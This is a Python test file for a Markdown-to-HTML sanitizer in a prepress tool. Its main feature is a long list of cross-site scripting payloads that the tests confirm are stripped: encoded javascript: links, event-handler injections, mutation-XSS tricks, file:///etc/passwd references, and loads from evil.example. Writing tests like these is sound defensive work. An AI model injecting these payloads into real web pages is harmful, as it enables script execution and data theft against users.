"""Nodes to HTML: what a bank may bring into an output, and what never gets there."""

import re
from html.parser import HTMLParser
from pathlib import Path

import pytest
from lxml import etree

from prepress.parsing.syntax import Node, parse
from prepress.proving.copytext import passages_of
from prepress.rendering.markup import to_html
from prepress.rendering.passages import image_references, passages
from prepress.rendering.sanitizer import ATTRIBUTES, CLASSES, LINK_SCHEMES, TAGS, refusals, to_xhtml
from prepress.source import Image, Source
from tests.proofing import bank_of

PNG = b"\x89PNG\r\n\x1a\n"
PICTURE = Image("ring.png", PNG)


def tree(text: str) -> tuple[Node, ...]:
    """The blocks of a text."""
    return parse(Source(Path("bank.md"), text, ""))


def html_of(text: str) -> str:
    """The HTML of a Markdown text beside which ring.png lies."""
    return to_html(tree(text), {"ring.png": PICTURE})


def words(element: etree._Element) -> list[str]:
    """The text of an element and of all below it, in words."""
    return str(etree.tostring(element, method="text", encoding="unicode")).split()


class Audit(HTMLParser):
    """Lists the tags and attributes of some HTML, as a browser would find them."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str, str]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]


HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<script\n>alert(1)</script\n>",
    "<script/src=x>",
    "<script",
    "</p><script>alert(1)//",
    "<noscript><p title='</noscript><script>alert(1)</script>'>",
    "<b onclick=alert(1)>x</b>",
    "<b OnClick='alert(1)'>x</b>",
    "<b/onclick=alert(1)>x</b>",
    '<b x="a" onmouseover\n=\n"alert(1)">x</b>',
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror=alert(1)>",
    '<img src="ring.png" onload="alert(1)">',
    '<img src="ring.png" srcset="https://evil.example/x.png 2x">',
    '<img src="ring.png" style="background:url(https://evil.example)">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math href='javascript:alert(1)'>x</math>",
    "<iframe src='https://evil.example'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='https://evil.example/x.swf'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>body{display:none}</style>",
    "<p style='position:fixed;top:0'>x</p>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action='https://evil.example'><input name=x autofocus onfocus=alert(1)><button>x</button></form>",
    "<video src='https://evil.example/x.mp4' poster='https://evil.example/x.png' autoplay></video>",
    "<audio src='https://evil.example/x.mp3' onerror=alert(1)></audio>",
    "<picture><source srcset='https://evil.example/x.png'><img src='ring.png'></picture>",
    "<table background='https://evil.example/x.png'><tr><td background='x'>x</td></tr></table>",
    "<body onload=alert(1)>",
    "<html><head><title>x</title></head><body background='https://evil.example/x.png'>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='&#x6A&#x61vascript:alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='blob:https://evil.example/x'>x</a>",
    "<a href='https://ok.example' target=_blank ping='https://evil.example'>x</a>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img src='https://evil.example/x.png'>",
    "<img src='//evil.example/x.png'>",
    "<img src='file:///etc/passwd'>",
    "<img src='images/../../x.png'>",
    "<img src='ring.png' src='https://evil.example/x.png'>",
    "<img alt='>' src='https://evil.example/x.png'>",
    "<image href='https://evil.example/x.png'>",
    "<image src='https://evil.example/x.png'>",
    "<input type=image src='https://evil.example/x.png'>",
    "<q cite='https://evil.example'>x</q>",
    "<template><script>alert(1)</script></template>",
    "<textarea></textarea><script>alert(1)</script>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo '<script>alert(1)</script>' ?>",
    "<!ENTITY x SYSTEM 'file:///etc/passwd'>",
    "<b id=x name=y class=z slot=s is=t>x</b>",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT&colon;alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](data:text/html,x)",
    "[x](vbscript:x)",
    "[x](file:///etc/passwd)",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "<javascript:alert(1)>",
    '[x](https://ok.example "onclick=alert(1)")',
    '![x" onerror="alert(1)](ring.png)',
    '![x](ring.png"onerror="alert(1))',
    "![x](https://evil.example/x.png)",
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    '``` "><script>alert(1)</script>\nx\n```',
    "    <script>alert(1)</script>",
    "| <script>alert(1)</script> |\n|---|\n| <b onclick=x> |",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_hostile_reaches_an_output(text: str) -> None:
    """Only what is on the allow-list comes out; links lead to the web or to mail, pictures are the bank's."""
    for html in (html_of(text), html_of(f"a {text} b"), html_of(f"<div>\n{text}\n</div>")):
        audit = Audit(html)
        assert set(audit.tags) <= TAGS
        for tag, name, value in audit.attributes:
            assert name in ATTRIBUTES["*"] | ATTRIBUTES.get(tag, frozenset()) | {"class"}
            assert name != "href" or value.split(":")[0] in LINK_SCHEMES
            assert name != "src" or value == f"images/{PICTURE.name}"
            assert name != "class" or set(value.split()) <= CLASSES[tag]


@pytest.mark.parametrize("text", HOSTILE)
def test_what_comes_out_is_well_formed(text: str) -> None:
    """The book's XHTML can be parsed as XML, and says the same as the HTML for print."""
    html = html_of(text)
    body = etree.fromstring(f"<body>{to_xhtml(html)}</body>")
    assert words(body) == words(etree.HTML(f"<body>{html}</body>"))


@pytest.mark.parametrize("text", [text for text in HOSTILE if text.startswith(("<script>", "<style>", "<svg onload"))])
def test_the_words_of_scripts_and_styles_are_not_printed(text: str) -> None:
    """They are no prose: nothing of them is left."""
    assert re.sub(r"<[^>]*>", "", html_of(text)).strip() == ""


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("a *b* **c** ~~d~~ `e<f`", "<p>a <em>b</em> <strong>c</strong> <del>d</del> <code>e&lt;f</code></p>"),
        ("- a\n- b\n", "<ul><li>a</li><li>b</li></ul>"),
        ("- a\n\n- b\n", "<ul><li><p>a</p></li><li><p>b</p></li></ul>"),
        ("7. a\n", '<ol start="7"><li>a</li></ol>'),
        ("> a\n", "<blockquote><p>a</p></blockquote>"),
        ("#### a\n", "<h4>a</h4>"),
        ("# a\n", "<h4>a</h4>"),
        ("###### a\n", "<h6>a</h6>"),
        ("a\\\nb\nc\n", "<p>a<br>b\nc</p>"),
        ("```py\na < b\n\n```\n", '<pre><code><span class="code-line">a &lt; b\n</span></code></pre>'),
        (
            "```dot\n```\n",
            '<p class="diagram">Diagram source (dot)</p><pre><code><span class="code-line">\n</span></code></pre>',
        ),
        ("[a](https://b.example/?c&d)", '<p><a href="https://b.example/?c&amp;d">a</a></p>'),
        ("[a](#b) [c](d.md)", "<p>a c</p>"),
        ("<a href='#b' name=x>a</a> <a href='//c.example'>d</a>", "<p><a>a</a> <a>d</a></p>"),
        ("<a href='https://b.example'>a</a>", '<p><a href="https://b.example">a</a></p>'),
        ("<kbd>a</kbd> H<sub>2</sub>O", "<p><kbd>a</kbd> H<sub>2</sub>O</p>"),
        ("<details><summary>a</summary>b</details>", "<details><summary>a</summary>b</details>"),
        ("![a *b*](ring.png)", f'<p><img src="images/{PICTURE.name}" alt="a b"></p>'),
        ("![a](gone.png)", '<p><span class="no-image">a (gone.png)</span></p>'),
        ("![](gone.png)", '<p><span class="no-image">(gone.png)</span></p>'),
        ("<img src=ring.png>", f'<img src="images/{PICTURE.name}" alt="">'),
        ("x <IMG ALT='a' SRC='gone.png'/> y", '<p>x <span class="no-image">a (gone.png)</span> y</p>'),
    ],
)
def test_markdown_becomes_html(text: str, html: str) -> None:
    """Each construct has one form; headings stay below those of questions."""
    assert html_of(text).strip() == html


def test_a_table_keeps_its_alignment() -> None:
    """By a class, since style attributes are not let through."""
    html = html_of("| a | b | c |\n|---|:-:|--:|\n| 1 | 2 | 3 |\n")
    assert '<th class="align-center" scope="col">b</th>' in html
    assert "<td>1</td>" in html
    assert '<td class="align-right">3</td>' in html


@pytest.mark.parametrize(
    "text", ["<b>a", "</div>a", "<b><i>a</b></i>", "<table><td>a", "<p><div>a</p>", "<ul><li>a", "<b", "a <"]
)
def test_tags_that_are_not_balanced_stay_inside(text: str) -> None:
    """Whatever is opened is closed before the question ends: the next one is not touched."""
    body = etree.fromstring(f"<body><section>{to_xhtml(html_of(text))}</section><section>next</section></body>")
    assert [section.tag for section in body] == ["section", "section"]
    assert body[1].text == "next"
    assert "".join(words(body[0])) in ("a", "<b", "a<")


def test_xhtml_of_nothing_is_nothing() -> None:
    """No empty element is left behind."""
    assert to_xhtml("") == ""


def test_xhtml_has_no_named_entities_and_closes_its_tags() -> None:
    """A reading system is an XML parser: it knows five names and no void elements."""
    assert to_xhtml("a&nbsp;b<br>&eacute;<hr>") == "a\xa0b<br/>é<hr/>"


def test_references_to_pictures_are_found_once_and_in_order() -> None:
    """Markdown's and HTML's, in headings, tables, lists and links."""
    text = "# ![](a.png)\n\n- [![](b.png)](c)\n\n<img src=d.png><img src='a.png'>\n\n| ![](e.png) |\n|---|\n| x |\n"
    assert image_references(tree(text)) == ("a.png", "b.png", "d.png", "e.png")


@pytest.mark.parametrize(
    ("raw", "found"),
    [
        ("<script>x</script>", ("<script>",)),
        ("<IFRAME SRC='javascript:x'>", ("<iframe>", "src=…")),
        ("<b ONCLICK=x onclick=y>", ("onclick=…",)),
        ("<a href=' JavaScript:x'>", ("href=…",)),
        ("<kbd>a</kbd><br/><center><!-- script -->", ()),
        ("<a href='https://x.example'><a href='mailto:x@x.example'><a href='#x'>", ()),
        ("<img src='https://x.example/x.png'>", ()),
        ("<![if x]><![foo bar]><script><![foo[", ("<script>",)),
        ("<", ()),
    ],
)
def test_refusals_name_what_is_taken_away(raw: str, found: tuple[str, ...]) -> None:
    """Tags and attributes that could do something, each once; pictures are reported elsewhere, with their address."""
    assert refusals(raw) == found


def test_passages_are_what_an_output_must_hold() -> None:
    """A run for each paragraph, cell and line of code; pictures say nothing unless they are left out."""
    table = "| g |\n|---|\n| h |"
    blocks = ("a *b*\nc", "- d", "```\ne\nf\n```", table, "![i](ring.png) ![j](gone.png)", "<div>k <b>l</b></div>")
    text = "\n\n".join(blocks)
    found = [passage.strip() for passage in passages(tree(text), {"ring.png": PICTURE})]
    assert found == ["a b c", "d", "e", "f", "g", "h", "j (gone.png)", "k l"]


def test_items_beside_refused_html_are_passages_of_their_own() -> None:
    """Where a tag is taken away, its neighbours do not run into each other."""
    bank = bank_of("### 1. Which?\n\n**Answer:** one of\n\n- first\n- <cr>\n- second\n")
    (question,) = bank.questions()
    said = [passage.strip() for passage in passages_of(question.parts[0].body, bank)]
    assert [passage for passage in said if passage] == ["one of", "first", "second"]
